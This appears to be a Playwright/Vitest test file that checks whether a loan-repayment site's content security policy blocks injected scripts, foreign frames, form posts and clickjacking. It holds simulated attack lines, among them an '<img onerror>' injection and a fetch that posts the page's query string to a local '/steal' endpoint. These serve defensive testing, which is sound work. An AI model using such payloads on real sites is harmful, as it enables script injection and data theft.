import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { pages } from '../../pages/pages.ts';
import { pathOf } from '../../shared/document/page.ts';
import { portOf } from '../freePort.ts';
import { type Borrower, site, useBorrower, withBrowser } from './borrower.ts';
import { DATA_SCREENS, OTHER_ROUTES, TEXT_ROUTES } from './screens.ts';

const PAGES = [
  ...DATA_SCREENS.map(({ route, ready, query }) => ({ route, ready, query })),
  ...[...OTHER_ROUTES, ...TEXT_ROUTES].map((route) => ({ route, ready: '', query: undefined })),
];

async function openPage({ page, open }: Borrower, { route, ready, query }: (typeof PAGES)[number]) {
  await open(route === 'officialSite' ? '' : route, 'due-extendable', query);
  if (ready) await page.getByText(ready).first().waitFor();
  else await page.waitForLoadState('networkidle');
}

/** Every address of the site, once. */
const ADDRESSES = pages.flatMap((page) => [
  pathOf(page),
  ...page.aliases.filter((alias) => alias !== 'index'),
]);
const CODE = { showType: '1', payCode: '801234567890', repayAmount: '345000', real: '0' };

const REFUSED = [
  'trusted script',
  'trusted markup',
  'require-trusted-types-for',
  'trusted handler',
  'frame-src',
  'form-action',
  'connect-src',
  'media-src',
  'font-src',
];

/** What an attacker's script would try, and how the browser responds. */
function attack(page: Page, foreign: string) {
  return page.evaluate(
    async ({ elsewhere, expected }) => {
      const refused: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.push(effectiveDirective),
      );
      const script = document.createElement('script');
      try {
        script.text = 'window.owned = 1';
      } catch {
        refused.push('trusted script');
      }
      const inline = document.createElement('script');
      inline.append('window.owned = 1');
      document.body.append(script, inline);
      try {
        document.createElement('div').innerHTML = '<img src=x onerror="window.owned=1">';
      } catch {
        refused.push('trusted markup');
      }
      try {
        document.body.setAttribute('onclick', 'window.owned = 1');
        document.body.click();
      } catch {
        refused.push('trusted handler');
      }
      const frame = document.createElement('iframe');
      frame.src = elsewhere;
      document.body.append(frame);
      new Audio(elsewhere).play().catch(() => undefined);
      new FontFace('foreign', `url(${elsewhere})`).load().catch(() => undefined);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = elsewhere;
      document.body.append(form);
      form.submit();
      await fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: location.search }).catch(
        () => undefined,
      );
      // The browser reports a refusal with a delay, which is longer on a busy machine.
      for (let waited = 0; waited < 5000; waited += 50) {
        if (expected.every((refusal) => refused.includes(refusal))) break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return { refused, owned: Object(window).owned };
    },
    { elsewhere: foreign, expected: REFUSED },
  );
}

describe('the content security policy of every page, as the browser enforces it', () => {
  const borrower = useBorrower();
  let server: Server | undefined;
  let foreign = '';
  const arrived: string[] = [];

  beforeAll(async () => {
    server = createServer((request, response) => {
      const { pathname, searchParams } = new URL(request.url ?? '', 'http://foreign');
      if (pathname === '/frame') {
        const src = searchParams.get('of') ?? '';
        response.setHeader('Content-Type', 'text/html');
        response.end(`<!doctype html><iframe src="${src.replace(/"/g, '&quot;')}"></iframe>`);
        return;
      }
      arrived.push(`${request.method} ${request.url}`);
      response.end('foreign');
    });
    await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
    foreign = `http://127.0.0.1:${portOf(server)}/steal`;
  });
  afterAll(() => void server?.close());

  for (const one of PAGES) {
    withBrowser(`${one.route}: refuses inline script, foreign frame and foreign post`, async () => {
      const { page } = borrower();
      await openPage(borrower(), one);
      const { refused, owned } = await attack(page, foreign);
      expect(owned).toBeUndefined();
      expect(new Set(refused)).toEqual(new Set(REFUSED));
      expect(arrived).toEqual([]);
    });
  }

  for (const route of ADDRESSES) {
    withBrowser(
      `/${route}: does nothing that its policy refuses, asks no other host, leaks no identity`,
      async () => {
        const { page, context, open, problems, sessionId } = borrower();
        const asked: string[] = [];
        const told: string[] = [];
        page.on('request', (request) => {
          asked.push(new URL(request.url()).origin);
          if (request.headers().referer?.includes(sessionId)) told.push(request.url());
        });
        page.on('console', (message) => {
          if (message.text().includes(sessionId)) told.push(message.text());
        });
        await context.addInitScript(() => {
          Object.assign(window, { refusals: [] });
          document.addEventListener('securitypolicyviolation', (event) =>
            Object(window).refusals.push(`${event.effectiveDirective} ${event.blockedURI}`),
          );
        });
        const screen = DATA_SCREENS.find((one) => one.route === route);
        await open(route, 'due-extendable', { ...CODE, ...screen?.query });
        if (screen) await page.getByText(screen.ready).first().waitFor();
        await page.waitForLoadState('networkidle');
        expect(await page.evaluate(() => Object(window).refusals)).toEqual([]);
        expect([new Set(asked), told]).toEqual([new Set([site]), []]);
        expect(problems).toEqual([]);
      },
    );
  }

  const framed = (sessionId: string) => {
    const query = new URLSearchParams({ sessionId, productId: '7', orderId: 'due-extendable' });
    return new URL(`/frame?${new URLSearchParams({ of: `${site}/repayment?${query}` })}`, foreign)
      .href;
  };

  withBrowser('is not shown inside a foreign site: the header refuses', async () => {
    const { page, sessionId } = borrower();
    await page.goto(framed(sessionId));
    await expect
      .poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:')))
      .toBe(true);
    expect(await page.frameLocator('iframe').getByText('Amount to repay').count()).toBe(0);
  });

  withBrowser('is not shown inside a foreign site without the header either', async () => {
    const { page, context, sessionId } = borrower();
    await context.route(/\/repayment\?/, async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    const calls: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/esita/')) calls.push(request.url());
    });
    await page.goto(framed(sessionId));
    await page.frameLocator('iframe').getByText('Open this page in the app').waitFor();
    expect(await page.frameLocator('iframe').getByText('Amount to repay').count()).toBe(0);
    await page.waitForLoadState('networkidle');
    expect(calls).toEqual([]);
  });
});
